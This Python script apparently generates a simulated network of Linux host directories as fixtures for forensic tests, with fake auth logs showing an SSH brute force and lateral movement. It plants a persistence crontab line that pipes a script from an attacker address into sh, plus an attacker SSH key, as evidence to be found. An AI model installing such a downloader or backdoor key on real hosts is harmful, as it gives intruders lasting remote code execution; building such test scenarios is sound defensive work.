#!/usr/bin/env python3
"""mknet.py - one network of Linux hosts as trees under DIR (DIR/<host>/), for the fleet
tests. The attacker brute-forces SSH on web1 from outside (198.51.100.66), gets in as
root, plants a downloader in root's crontab and a key; from web1 it logs in to app2 with
deploy's stolen password and plants the same downloader; from web1 it fails to log in
to db3 (a bystander). bastion is clean; the evening before the attack the operators log
in from bastion to app2 (a routine login that must be ruled out as the way in).
Debian-style auth.log with RFC 3339 times, UTC; addresses in the hosts' own network
configuration (ifupdown, netplan, ifcfg).
usage: mknet.py DIR"""
import os
import sys

D = sys.argv[1]
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHfleetattackerkeyfleetattackerkeyfleetA attacker"
DROP = "*/5 * * * * curl -fsSL http://198.51.100.66/x.sh | sh\n"


def ts(s):
    import calendar, time
    return calendar.timegm(time.strptime(s, "%Y-%m-%dT%H:%M:%S"))


def put(host, path, text, mtime=None, mode=0o644):
    p = os.path.join(D, host, path.lstrip("/"))
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "w") as f:
        f.write(text)
    os.chmod(p, mode)
    if mtime:
        os.utime(p, (ts(mtime), ts(mtime)))


def base(host, fqdn, users):
    put(host, "/etc/hostname", fqdn + "\n")
    put(host, "/etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n')
    pw = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    sh = "root:$6$Zx$abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789./abcdefghijklmnopqrstuvwxy:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\n"
    for i, u in enumerate(users):
        pw += "%s:x:%d:%d::/home/%s:/bin/bash\n" % (u, 1000 + i, 1000 + i, u)
        sh += "%s:$6$Qy$abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789./abcdefghijklmnopqrstuvwxy:19700:0:99999:7:::\n" % u
        os.makedirs(os.path.join(D, host, "home", u), exist_ok=True)
    put(host, "/etc/passwd", pw, "2024-01-05T10:00:00")
    put(host, "/etc/shadow", sh, "2024-01-05T10:00:00", 0o640)
    os.makedirs(os.path.join(D, host, "root"), exist_ok=True)
    os.makedirs(os.path.join(D, host, "var/spool/cron/crontabs"), exist_ok=True)


def log(host, lines, mtime):
    name = host.split(".")[0]
    text = "".join("%s+00:00 %s %s\n" % (t, name, m) for t, m in lines)
    put(host, "/var/log/auth.log", text, mtime, 0o640)


# web1: entered from outside after a brute force
base("web1", "web1.corp.example", ["ops"])
put("web1", "/etc/network/interfaces", "auto eth0\niface eth0 inet static\n    address 10.50.0.11/24\n")
L = [("2024-03-09T09:00:05", "sshd[900]: Accepted publickey for ops from 10.50.0.5 port 40100 ssh2: ED25519 SHA256:OpsKeyOpsKeyOpsKeyOpsKeyOpsKeyOpsKeyOpsKey12")]
for i in range(25):
    L.append(("2024-03-10T01:%02d:%02d" % (i // 5, (i * 11) % 60), "sshd[%d]: Failed password for root from 198.51.100.66 port %d ssh2" % (1000 + i, 50000 + i)))
L += [("2024-03-10T01:06:10", "sshd[1100]: Accepted password for root from 198.51.100.66 port 50999 ssh2"),
      ("2024-03-10T01:06:10", "sshd[1100]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"),
      ("2024-03-10T01:30:00", "sshd[1100]: Disconnected from user root 198.51.100.66 port 50999")]
log("web1", L, "2024-03-10T01:30:00")
put("web1", "/var/spool/cron/crontabs/root", DROP, "2024-03-10T01:07:00", 0o600)
put("web1", "/root/.ssh/authorized_keys", KEY + "\n", "2024-03-10T01:07:30", 0o600)

# app2: the operators' routine login from bastion the evening before; then deploy's
# stolen password from web1
base("app2", "app2.corp.example", ["ops", "deploy"])
put("app2", "/etc/netplan/50-cloud-init.yaml", "network:\n  version: 2\n  ethernets:\n    ens3:\n      addresses:\n        - 10.50.0.12/24\n")
L = [("2024-03-09T18:00:02", "sshd[700]: Accepted publickey for ops from 10.50.0.5 port 41000 ssh2: ED25519 SHA256:OpsKeyOpsKeyOpsKeyOpsKeyOpsKeyOpsKeyOpsKey12"),
     ("2024-03-09T18:00:02", "sshd[700]: pam_unix(sshd:session): session opened for user ops(uid=1000) by (uid=0)"),
     ("2024-03-09T18:20:00", "sshd[700]: Disconnected from user ops 10.50.0.5 port 41000"),
     ("2024-03-10T02:10:00", "sshd[1200]: Accepted password for deploy from 10.50.0.11 port 43210 ssh2"),
     ("2024-03-10T02:10:00", "sshd[1200]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"),
     ("2024-03-10T02:30:00", "sshd[1200]: Disconnected from user deploy 10.50.0.11 port 43210")]
log("app2", L, "2024-03-10T02:30:00")
put("app2", "/var/spool/cron/crontabs/deploy", DROP, "2024-03-10T02:11:00", 0o600)

# db3: only failed attempts from web1
base("db3", "db3.corp.example", ["ops"])
put("db3", "/etc/sysconfig/network-scripts/ifcfg-eth0", "DEVICE=eth0\nBOOTPROTO=static\nIPADDR=10.50.0.13\nPREFIX=24\n")
L = [("2024-03-09T09:30:00", "sshd[800]: Accepted publickey for ops from 10.50.0.5 port 40200 ssh2: ED25519 SHA256:OpsKeyOpsKeyOpsKeyOpsKeyOpsKeyOpsKeyOpsKey12")]
for i in range(8):
    L.append(("2024-03-10T02:2%d:%02d" % (i // 4, i * 7), "sshd[%d]: Failed password for root from 10.50.0.11 port %d ssh2" % (1300 + i, 44000 + i)))
log("db3", L, "2024-03-10T02:25:00")

# bastion: clean; the operators come from their workstations
base("bastion", "bastion.corp.example", ["ops"])
put("bastion", "/etc/network/interfaces", "auto eth0\niface eth0 inet static\n    address 10.50.0.5/24\n")
log("bastion", [("2024-03-09T08:55:00", "sshd[500]: Accepted publickey for ops from 10.60.1.20 port 52000 ssh2: ED25519 SHA256:WsKeyWsKeyWsKeyWsKeyWsKeyWsKeyWsKeyWsKeyWsK1")], "2024-03-09T08:55:00")
